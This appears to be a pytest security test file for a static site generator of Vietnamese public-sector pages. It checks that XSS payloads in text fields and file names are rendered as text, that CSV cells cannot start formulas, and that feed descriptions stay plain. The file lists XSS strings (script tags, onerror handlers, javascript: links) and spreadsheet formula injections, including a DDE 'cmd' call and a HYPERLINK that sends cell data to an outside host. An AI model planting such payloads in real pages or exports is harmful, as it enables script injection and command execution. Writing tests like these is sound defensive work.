"""Markup in any text field or file name is shown as text, never run (issue: nothing leaks)."""

from __future__ import annotations

import copy
import datetime as dt
import json
from typing import Any

import yaml
from bs4 import BeautifulSoup
from fixtures import BUDGET, POVERTY, QUESTION, TYPE_FILES, TYPE_VALID
from pydantic import ValidationError

from generator.build import build
from generator.types import TYPES

PAYLOADS = [
    '<script>alert("XSS1")</script>',
    '<img src=x onerror=alert("XSS2")>',
    '[bấm](javascript:alert("XSS3"))',
    '<svg onload=alert("XSS4")>',
    "\" onmouseover=\"alert('XSS5')",
    "{: onclick=\"alert('XSS6')\" }",
    "<a href=\"javascript:alert('XSS7')\">x</a>",
    '![x](javascript:alert("XSS8"))',
    "<iframe src=\"javascript:alert('XSS9')\"></iframe>",
]
EVIL_FILE = "hoi-dap/\"><img src=x onerror=alert('XSS10')>) [x](javascript:alert('XSS11')).pdf"


def _poison(data: Any, payload: str) -> Any:
    if isinstance(data, str):
        return f"{data} {payload}"
    if isinstance(data, dict):
        # File paths must name real files; hostile file names are tested through EVIL_FILE.
        return {k: v if k == "file" else _poison(v, payload) for k, v in data.items()}
    if isinstance(data, list):
        return [_poison(value, payload) for value in data]
    return data


def _revert(data: Any, original: Any, loc: tuple) -> None:
    """Put back the original value at `loc` (a field that only takes codes, dates, names...)."""
    for index, part in enumerate(loc):
        if isinstance(data, dict | list) and (
            part in data if isinstance(data, dict) else part < len(data)
        ):
            if index == len(loc) - 1 or not isinstance(data[part], dict | list):
                data[part] = copy.deepcopy(original[part])
                return
            data, original = data[part], original[part]


def poisoned_text(folder: str, text: str, payload: str) -> str:
    """The item with the payload appended to every free-text field its schema accepts."""
    original = yaml.safe_load(text)
    data = _poison(original, payload)
    model = TYPES[folder].model
    for _ in range(50):
        try:
            model.model_validate(data)
            break
        except ValidationError as exc:
            for error in exc.errors():
                _revert(data, original, tuple(p for p in error["loc"] if isinstance(p, str | int)))
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)


def test_no_payload_becomes_live_markup(make_project):
    files: dict[str, str | bytes] = dict(TYPE_FILES)
    items = {
        **TYPE_VALID,
        "content/ngan-sach/2025-du-toan.yaml": BUDGET,
        "content/ho-ngheo/2025-ra-soat.yaml": POVERTY,
        "content/hoi-dap/2025-a.yaml": QUESTION
        + f"attachments:\n  - file: {json.dumps(EVIL_FILE)}\n    title: Văn bản\n",
    }
    for index, (name, text) in enumerate(sorted(items.items())):
        folder = name.split("/")[1]
        payload = PAYLOADS[index % len(PAYLOADS)]
        files[name] = poisoned_text(folder, text, payload)
    files[f"content/files/{EVIL_FILE}"] = b"%PDF-1.4\n"
    project = make_project(files)
    result = build(project, as_of=dt.date(2026, 11, 24))
    assert result.published, [d for d in result.diagnostics if d.is_error]

    pages = list(project.site_dir.rglob("*.html"))
    assert len(pages) > 20
    shown = 0
    for page in pages:
        html = page.read_text("utf-8")
        soup = BeautifulSoup(html, "html.parser")
        for tag in soup.find_all(True):
            for attribute, value in tag.attrs.items():
                text = " ".join(value) if isinstance(value, list) else str(value)
                assert not (attribute.startswith("on") and "XSS" in text), (page, tag)
                if attribute in ("href", "src", "action", "formaction"):
                    assert not text.strip().lower().startswith("javascript:"), (page, tag)
            if tag.name in ("script", "iframe", "object", "embed"):
                assert "XSS" not in str(tag), (page, tag)
            # Payload images (`<img src=x ...>`) must not exist as elements; text in an alt is fine.
            assert not (tag.name == "img" and tag.get("src") == "x"), (page, tag)
        shown += html.count("XSS")
    assert shown > 0  # the payloads are there, as text


FORMULAS = ['=HYPERLINK("http://x/?"&A1,"Bấm")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip


def test_open_data_cells_never_start_a_formula(make_project):
    items = {}
    for index, formula in enumerate(FORMULAS):
        text = QUESTION.replace("Tôi cần giấy tờ gì?", json.dumps(formula)).replace(
            "topic: Đất đai", f"topic: {json.dumps(formula)}"
        )
        items[f"content/hoi-dap/2025-cau-{index}.yaml"] = text.replace(
            "title: Hỏi về thủ tục đất đai", f"title: {json.dumps(formula)}"
        )
    project = make_project(items)
    assert build(project, as_of=dt.date(2025, 12, 1)).published
    import csv
    import io

    checked = 0
    for path in (project.site_dir / "du-lieu").glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")):
            for cell in row:
                if cell.lstrip("'") in FORMULAS or cell.lstrip("'").startswith(("=", "+", "@")):
                    assert cell.startswith("'"), (path.name, cell)
                    checked += 1
    assert checked >= len(FORMULAS) * 2  # titles and topics, at least


def test_rss_descriptions_are_plain_text(make_project):
    payload = '<img src=x onerror=alert("XSS")> & <b>đậm</b>'
    text = QUESTION.replace("Tôi cần giấy tờ gì?", json.dumps(payload)) + (
        f"summary: {json.dumps(payload)}\n"
    )
    project = make_project({"content/hoi-dap/2025-a.yaml": text})
    assert build(project, as_of=dt.date(2025, 12, 1)).published
    import xml.etree.ElementTree as ET

    rss = ET.parse(project.site_dir / "feeds/rss.xml").getroot()
    [description] = [item.findtext("description") for item in rss.iter("item")]
    # A reader renders <description> as HTML: what it shows is the text the clerk typed.
    shown = BeautifulSoup(description, "html.parser")
    assert shown.find("img") is None and shown.find("b") is None
    assert payload in shown.get_text()
    atom = ET.parse(project.site_dir / "feeds/atom.xml").getroot()
    ns = {"a": "http://www.w3.org/2005/Atom"}
    [summary] = [e.findtext("a:summary", namespaces=ns) for e in atom.iterfind("a:entry", ns)]
    assert payload in summary
